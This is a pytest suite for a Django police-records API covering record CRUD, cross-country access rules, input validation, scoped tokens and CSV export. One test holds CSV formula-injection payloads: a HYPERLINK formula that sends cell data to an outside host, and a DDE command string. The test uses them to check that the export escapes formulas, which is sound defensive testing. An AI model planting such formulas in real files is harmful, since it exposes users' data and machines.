from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest
from django.test import Client

from polnet.core.models import AuditEntry
from polnet.network.services import issue_token
from polnet.records import display
from polnet.records import services as records
from polnet.records.labels import field_label
from polnet.records.models import Person, PersonName, RecordChange, TravelDocument
from tests.factories import Network, access, make_record, signed_in_client

PERSON = {
    "names": [{"given": "Anna Maria", "family": "Eriksson", "script": "Latn"}],
    "date_of_birth": "1974-08",
    "sex": "F",
    "nationalities": ["SE", "FIN"],
    "identifiers": [{"kind": "national_id", "value": "740812-1234", "country": "SE"}],
}


def _post(client: Client, url: str, body: dict, **headers: str) -> object:  # type: ignore[type-arg]
    return client.post(url, json.dumps(body, default=str), content_type="application/json", **headers)


def _patch(client: Client, url: str, body: dict) -> object:  # type: ignore[type-arg]
    return client.patch(url, json.dumps(body, default=str), content_type="application/json")


@pytest.mark.django_db
def test_person_crud_through_the_api(net: Network) -> None:
    fr = signed_in_client(net.users["FR-officer"])
    r = _post(fr, "/api/records/persons", {**PERSON, **access()})
    assert r.status_code == 201, r.content
    body = r.json()
    assert body["owner_country"] == "FR" and body["version"] == 1
    assert body["date_of_birth"] == "1974-08" and body["nationalities"] == ["FI", "SE"]
    assert body["names"][0]["family"] == "Eriksson"
    pk = body["id"]

    r = _patch(
        fr,
        f"/api/records/persons/{pk}",
        {"version": 1, "sex": "U", "names": [{"full": "Анна Эрикссон", "script": "Cyrl"}]},
    )
    assert r.status_code == 200, r.content
    assert r.json()["version"] == 2 and r.json()["sex"] == "U"
    assert [n.full for n in PersonName.objects.filter(person_id=pk)] == ["Анна Эрикссон"]

    stale = _patch(fr, f"/api/records/persons/{pk}", {"version": 1, "sex": "M"})
    assert stale.status_code == 409 and stale.json()["field"] == "version"
    assert Person.objects.get(pk=pk).sex == "U"

    listing = fr.get("/api/records/persons?search_purpose=investigation&q=Эрикссон").json()
    assert [i["id"] for i in listing["items"]] == [pk] and listing["count"] == 1

    assert fr.delete(f"/api/records/persons/{pk}").status_code == 204
    assert fr.get(f"/api/records/persons/{pk}").status_code == 404
    actions = list(
        AuditEntry.objects.filter(object_type="person", object_id=str(pk)).values_list("action", flat=True)
    )
    assert actions == ["create", "update", "delete"]
    feed = list(
        RecordChange.objects.filter(kind="person", record_id=pk)
        .order_by("seq")
        .values_list("deleted", flat=True)
    )
    assert feed == [False, False, True]


@pytest.mark.django_db
def test_others_see_but_may_not_change(net: Network) -> None:
    fr = signed_in_client(net.users["FR-officer"])
    pk = _post(fr, "/api/records/persons", {**PERSON, **access()}).json()["id"]
    de = signed_in_client(net.users["DE-officer"])
    assert de.get(f"/api/records/persons/{pk}").status_code == 200
    r = _patch(de, f"/api/records/persons/{pk}", {"version": 1, "sex": "M"})
    assert r.status_code == 403
    assert de.delete(f"/api/records/persons/{pk}").status_code == 403
    assert Person.objects.filter(pk=pk).exists()


@pytest.mark.django_db
def test_hidden_records_answer_404_for_every_verb(net: Network) -> None:
    fr = signed_in_client(net.users["FR-officer"])
    pk = _post(fr, "/api/records/persons", {**PERSON, **access("only_listed", ["IT"])}).json()["id"]
    de = signed_in_client(net.users["DE-officer"])
    assert de.get(f"/api/records/persons/{pk}").status_code == 404
    assert _patch(de, f"/api/records/persons/{pk}", {"version": 1, "sex": "M"}).status_code == 404
    assert de.delete(f"/api/records/persons/{pk}").status_code == 404
    assert de.get("/api/records/persons/999999").status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"date_of_birth": "1974-02-30"}, "date_of_birth"),
        ({"date_of_birth": "74"}, "date_of_birth"),
        ({"nationalities": ["XX"]}, "nationalities.0"),
        ({"names": []}, "names"),
        ({"names": [{"script": "Latn"}]}, "names.0"),
        ({"sex": "Q"}, "sex"),
        ({"purpose": "curiosity"}, "purpose"),
        ({"handling_code": "H9"}, "handling_code"),
        ({"restriction": "only_listed", "listed_countries": []}, ""),
        ({"listed_countries": ["DE"]}, ""),
        ({"review_date": str(date.today() + timedelta(days=6 * 366))}, "review_date"),
        ({"review_date": str(date.today() - timedelta(days=1))}, "review_date"),
        ({"identifiers": [{"kind": "passport", "value": "1", "country": "QQ"}]}, "identifiers.0.country"),
    ],
)
def test_invalid_person_input_is_refused_naming_the_field(net: Network, change: dict, field: str) -> None:  # type: ignore[type-arg]
    fr = signed_in_client(net.users["FR-officer"])
    before = (Person.objects.count(), PersonName.objects.count(), AuditEntry.objects.count())
    r = _post(fr, "/api/records/persons", {**PERSON, **access(), **change})
    assert r.status_code == 422, r.content
    body = r.json()
    if field:
        assert body["field"] == field
        assert field.split(".")[0] in body["detail"]
    assert (Person.objects.count(), PersonName.objects.count(), AuditEntry.objects.count()) == before


@pytest.mark.django_db
def test_invalid_vehicle_vin_names_the_field(net: Network) -> None:
    fr = signed_in_client(net.users["FR-officer"])
    base = {"make": "Ford", **access()}
    bad_check_digit = _post(fr, "/api/records/vehicles", {**base, "vin": "1M8GDM9AYKP042788"})
    assert bad_check_digit.status_code == 422 and bad_check_digit.json()["field"] == "vin"
    forbidden_letter = _post(fr, "/api/records/vehicles", {**base, "vin": "1M8GDM9AXKP04278O"})
    assert forbidden_letter.status_code == 422 and forbidden_letter.json()["field"] == "vin"
    ok = _post(fr, "/api/records/vehicles", {**base, "vin": "1m8gdm9a-xkp042788"})
    assert ok.status_code == 201 and ok.json()["vin"] == "1M8GDM9AXKP042788"


@pytest.mark.django_db
def test_document_rules(net: Network) -> None:
    fr = signed_in_client(net.users["FR-officer"])
    doc = {
        "number": "l898-902 c3",
        "kind": "passport",
        "status": "stolen",
        "date_reported": "2026-01-05",
        **access(),
    }
    r = _post(fr, "/api/records/documents", doc)
    assert r.status_code == 201 and r.json()["number"] == "L898902C3" and r.json()["issuing_country"] == "FR"
    again = _post(fr, "/api/records/documents", doc)
    assert again.status_code == 422 and again.json()["field"] == "number"


@pytest.mark.django_db
def test_units_write_only_when_delegated(net: Network) -> None:
    body = {**PERSON, **access()}
    assert _post(signed_in_client(net.users["FR-unit-full"]), "/api/records/persons", body).status_code == 403
    r = _post(signed_in_client(net.users["FR-unit-writer"]), "/api/records/persons", body)
    assert r.status_code == 201 and r.json()["owner_country"] == "FR"
    assert _post(signed_in_client(net.users["gs-reviewer"]), "/api/records/persons", body).status_code == 403


@pytest.mark.django_db
def test_scoped_token_for_a_machine_client(net: Network) -> None:
    admin = net.actor("FR-admin")
    _, read_only = issue_token(admin, net.users["FR-unit-full"], name="gate 3", scopes=["records:read"])
    client = Client()
    auth = {"HTTP_AUTHORIZATION": f"Bearer {read_only}"}
    assert client.get("/api/records/persons", **auth).status_code == 200
    assert _post(client, "/api/records/persons", {**PERSON, **access()}, **auth).status_code == 403
    assert client.get("/api/records/persons", HTTP_AUTHORIZATION=f"Bearer {read_only}x").status_code == 401
    assert client.get("/api/records/persons").status_code == 401


@pytest.mark.django_db
def test_list_filters_and_paging(net: Network) -> None:
    fr = signed_in_client(net.users["FR-officer"])
    for n in range(5):
        _post(fr, "/api/records/persons", {**PERSON, "sex": "M" if n % 2 else "F", **access()})
    page = fr.get("/api/records/persons?sex=F&limit=2&offset=0").json()
    assert page["count"] == 3 and len(page["items"]) == 2
    rest = fr.get("/api/records/persons?sex=F&limit=2&offset=2").json()
    assert len(rest["items"]) == 1
    assert {i["id"] for i in page["items"]}.isdisjoint({i["id"] for i in rest["items"]})
    bad = fr.get("/api/records/persons?status=stolen")
    assert bad.status_code == 422 and bad.json()["field"] == "status"
    assert fr.get("/api/records/persons?limit=0").status_code == 422


@pytest.mark.django_db
def test_openapi_describes_every_record_kind(client: Client) -> None:
    schema = client.get("/api/openapi.json").json()
    assert schema["openapi"].startswith("3.")
    for kind in ("persons", "documents", "vehicles", "firearms", "artworks"):
        assert f"/api/records/{kind}" in schema["paths"]
        assert {"get", "post"} <= set(schema["paths"][f"/api/records/{kind}"])
        assert {"get", "patch", "delete"} <= set(schema["paths"][f"/api/records/{kind}/{{pk}}"])


FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]


@pytest.mark.django_db
def test_a_record_export_writes_formulas_as_text(net: Network) -> None:
    fr = signed_in_client(net.users["FR-officer"])
    for formula in FORMULAS:
        art = {"title": formula, "artist": "Unknown", "category": "painting"}
        r = _post(fr, "/api/records/artworks", {**art, **access()})
        assert r.status_code == 201, r.content

    r = fr.get("/api/records/artworks/export.csv")

    assert r.status_code == 200
    exported = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert sorted(row["title"] for row in exported) == sorted(f"'{f}" for f in FORMULAS)
    assert {row["artist"] for row in exported} == {"Unknown"}


@pytest.mark.django_db
def test_a_hidden_holder_is_neither_shown_nor_linked_nor_lost(net: Network) -> None:
    """A unit writes its bureau's documents but never sees bureau-only persons: the holder of a
    document that is such a person reads as none, cannot be linked, and is kept by a null."""
    owner = net.actor("FR-officer")
    hidden = make_record(owner, "person", bureau_only=True)
    doc = make_record(owner, "document")
    records.update_record(owner, "document", doc.pk, {"version": 1, "holder_id": hidden.pk})
    unit = net.actor("FR-unit-writer")
    writer = signed_in_client(net.users["FR-unit-writer"])
    url = f"/api/records/documents/{doc.pk}"
    assert writer.get(url).json()["holder_id"] is None
    rows = dict(display.detail_rows(unit, TravelDocument.objects.get(pk=doc.pk)))
    assert rows[field_label("holder_id")] == "—"
    linked = _patch(writer, url, {"version": 2, "holder_id": hidden.pk})
    absent = _patch(writer, url, {"version": 2, "holder_id": 10**9})
    assert linked.status_code == absent.status_code == 422
    assert linked.json() == absent.json() and linked.json()["field"] == "holder_id"
    kept = _patch(writer, url, {"version": 2, "holder_id": None, "status": "lost"})
    assert kept.status_code == 200 and kept.json()["holder_id"] is None
    assert TravelDocument.objects.get(pk=doc.pk).holder_id == hidden.pk
    assert signed_in_client(net.users["FR-officer"]).get(url).json()["holder_id"] == hidden.pk


@pytest.mark.django_db
def test_the_record_kind_is_not_the_document_or_firearm_type(net: Network) -> None:
    owner = net.actor("FR-officer")
    fr = signed_in_client(net.users["FR-officer"])
    for kind, own_type in (("person", None), ("document", "passport"), ("firearm", "pistol")):
        rec = make_record(owner, kind)
        body = fr.get(f"/api/records/{kind}s/{rec.pk}").json()
        assert body["record_kind"] == kind and body.get("kind") == own_type
        [item] = fr.get(f"/api/records/{kind}s").json()["items"]
        assert item["record_kind"] == kind and item.get("kind") == own_type
        export = fr.get(f"/api/records/{kind}s/export.csv").content.decode()
        [row] = csv.DictReader(io.StringIO(export))
        assert row["record_kind"] == kind and row.get("kind") == own_type
